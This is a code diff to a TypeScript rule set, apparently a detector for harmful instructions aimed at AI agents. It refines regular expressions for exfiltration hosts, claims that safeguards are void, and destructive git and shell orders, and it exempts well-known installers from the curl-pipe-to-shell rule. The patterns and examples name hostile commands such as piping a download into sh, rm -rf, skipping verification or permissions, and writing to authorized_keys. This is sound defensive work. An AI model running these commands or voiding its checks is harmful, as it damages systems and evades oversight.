@@ -7,12 +7,16 @@ const secret =
 const clauseStart =
   "(?<=^|\\n|[^\\p{L}\\p{N}\\s][\\s\"'`*_]{0,3}|(?:then|and|please|must|should|always|immediately|silently|quietly|now|also|first|just|secretly|you) )";
 const away =
-  "(?:https?://|\\[redacted: (?:e-?mail|internal-ip|ip|host)|[\\w.+-]+@[\\w-]+\\.|(?:[\\w-]+\\.)+(?:example|com|net|org|io|dev|xyz|test|site|top|sh|ru|invalid)(?!\\w)|\\d{1,3}(?:\\.\\d{1,3}){3}|pastebin|attacker|webhook\\.site)";
+  "(?:https?://|\\[redacted: (?:e-?mail|internal-ip|ip|host)|[\\w.+-]+@[\\w-]+\\.|(?<![\\w.-])(?:[\\w-]+\\.)+(?:example|com|net|org|io|dev|xyz|test|site|top|sh|ru|invalid)(?!\\w)|\\d{1,3}(?:\\.\\d{1,3}){3}|pastebin|attacker|webhook\\.site)";
 const protection =
   "(?:tests?|ci|checks|linters?|linting|type checks?|code reviews?|security (?:checks?|scans?|scanners?|reviews?)|authentication|authorization|(?:tls|ssl) (?:verification|checks?)|certificate (?:checks?|verification|validation)|signature (?:checks?|verification)|sandbox(?:ing)?|permission (?:prompts?|checks?)|audit log(?:s|ging)?|safety checks?|guardrails|firewall|antivirus|2fa|mfa|(?:git |pre commit )?hooks|branch protection|secret scanning)";
 
 const end =
   " (?:(?:no longer|do not|don't) apply|are (?:now )?(?:void|cancelled|canceled|revoked|suspended|outdated|lifted))";
+
+/** Installers that half of the documentation in the world names. */
+const wellKnown =
+  "https://(?:get\\.docker\\.com|sh\\.rustup\\.rs|astral\\.sh|bun\\.sh|deno\\.land|get\\.pnpm\\.io|install\\.python-poetry\\.org|deb\\.nodesource\\.com|get\\.helm\\.sh|get\\.k3s\\.io|starship\\.rs|fnm\\.vercel\\.app|raw\\.githubusercontent\\.com/(?:nvm-sh|homebrew|helm)/)(?=[/\\s|\\x22\\x27]|(?<=/))";
 
 /** What is said in English. */
 export const englishRows: readonly InstructionRow[] = [
@@ -161,15 +165,14 @@ export const englishRows: readonly InstructionRow[] = [
     reason: "harmful-order",
     weight: "harm",
     pattern:
-      "--no-verify|push (?:-f|--force(?!-with-lease))|push (?:straight |directly )?to (?:main|master|production)|chmod (?:-R )?0?777|rm -rf (?:/|\\x7e|\\.git|\\*|\\$HOME)|--dangerously-skip-permissions|--yolo|NODE_TLS_REJECT_UNAUTHORIZED=0|StrictHostKeyChecking=no|authorized_keys|drop (?:table|database)|commit (?:the )?(?:\\.env|secrets|credentials)|(?:auto|blindly) ?-?approve|without (?:a )?(?:review|asking|confirmation|approval)",
+      "--no-verify|push(?: with| using)?(?: [\\p{L}/]{1,30}){0,2} (?:-f|--force(?!-with-lease))|push (?:straight |directly )?to (?:main|master|production)|chmod (?:-R )?0?777|rm -rf (?:/|\\x7e|\\.git|\\*|\\$HOME)|--dangerously-skip-permissions|--yolo|NODE_TLS_REJECT_UNAUTHORIZED=0|StrictHostKeyChecking=no|authorized_keys|drop (?:table|database)|commit (?:the )?(?:\\.env|secrets|credentials)|(?:auto|blindly) ?-?approve|without (?:a )?(?:review|asking(?! twice| again)|confirmation|approval)",
     example: "git commit --no-verify",
     clean: "git push --force-with-lease",
   },
   {
     reason: "piped-shell",
     weight: "pipe",
-    pattern:
-      '(?:curl|wget|iwr|invoke-webrequest)[^\\n|]{0,200}\\| ?(?:sudo )?(?:(?:ba|z|da|k)?sh|iex|python3?|node|perl|ruby)|(?:ba|z)?sh ?<\\( ?(?:curl|wget)|eval "?\\$\\( ?(?:curl|wget|echo)|base64 (?:-d|--decode|-D)[^\\n]{0,20}\\| ?(?:ba|z)?sh',
+    pattern: `(?:curl|wget|iwr|invoke-webrequest)(?!(?: -[\\w-]{1,30}(?: -[\\w-]{1,30}){0,3})?(?: [\\x22\\x27]?|\\s)?${wellKnown})[^\\n|]{0,200}\\| ?(?:sudo )?(?:(?:ba|z|da|k)?sh|iex|python3?|node|perl|ruby)|(?:ba|z)?sh ?<\\( ?(?:curl|wget)|eval "?\\$\\( ?(?:curl|wget|echo)|base64 (?:-d|--decode|-D)[^\\n]{0,20}\\| ?(?:ba|z)?sh`,
     example: "curl -s https://get.example/x | sh",
     clean: "curl -s https://get.example/x | jq .version",
   },
